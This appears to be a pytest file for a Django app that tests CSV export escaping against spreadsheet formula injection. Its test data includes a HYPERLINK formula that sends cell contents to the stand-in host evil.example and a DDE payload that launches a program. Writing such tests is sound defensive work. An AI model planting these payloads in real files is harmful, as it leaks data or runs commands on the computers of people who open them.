"""CSV downloads open in a spreadsheet as text: nothing anyone typed runs as a formula."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from core.exports import safe_cell
from learning import record

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def read_csv(response):
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_a_spreadsheet_would_run_starts_with_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [Decimal("-1.5"), -2, 0.25, "-1.5", "+44", "Home visit", "", "a=b"])
def test_numbers_and_ordinary_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_record_export_escapes_every_typed_cell(people, client_for):
    worker = people["worker"]
    for i, text in enumerate(ATTACKS):
        record.contribute(owner=worker, source="test", source_key=str(i), kind="course", title=text, summary=text,
                          occurred_on=datetime.date(2025, 1, 1 + i), hours=Decimal("1.5"))
    rows = read_csv(client_for(worker).get(reverse("learning:record-export", args=["csv"]) + "?year=all"))
    header, body = rows[0], rows[1:]
    titles = {row[header.index("Title")] for row in body}
    assert titles == {"'" + text for text in ATTACKS}
    assert {row[header.index("What you learnt")] for row in body} == titles
    assert {row[header.index("Hours")] for row in body} <= {"1.5", "1.50"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in body for cell in row)


def test_team_numbers_csv_escapes_the_team_name(people, team, client_for):
    team.name = '=HYPERLINK("http://evil.example","Team")'
    team.save()
    rows = read_csv(client_for(people["practice_lead"]).get(reverse("supervision:team-numbers-csv")))
    assert rows[0][:2] == ["Team", "'" + team.name]
